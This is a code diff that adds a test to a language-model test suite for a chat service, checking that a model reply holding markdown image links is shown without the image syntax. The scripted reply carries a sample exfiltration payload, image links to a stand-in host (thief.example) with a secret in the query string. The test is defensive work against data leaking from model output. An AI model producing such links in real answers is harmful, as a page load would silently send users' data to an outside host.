@@ -159,6 +159,19 @@ class TestLanguageModel:
         assert "Speak like a pirate." in model.told("system")
         assert model.told("user").endswith("hi")
 
+    def test_cannot_have_a_page_load_a_strangers_picture(self, shop_front: Workspace, model: FakeModel) -> None:
+        """What it knows would stand in the address, and nobody would have to click."""
+        answered_by_model(shop_front, model)
+        model.script = [
+            say("Look ![here](https://thief.example/?q=secret) and ![there][1]\n\n[1]: https://thief.example/")
+        ]
+        device = anonymous(shop_front)
+        session_id = device.start()
+        assert "![" not in (text_of(device.send(session_id, "hi")) or "![")
+        [shown] = ai_texts(device, session_id)
+        assert "![" not in shown
+        assert "https://thief.example/?q=secret" in shown
+
     def test_reads_proof_and_claims_in_different_places(self, shop_front: Workspace, model: FakeModel) -> None:
         answered_by_model(shop_front, model)
         ada = verified(shop_front, "ada@example.com", name="Ada", chat_context="Gold customer.")
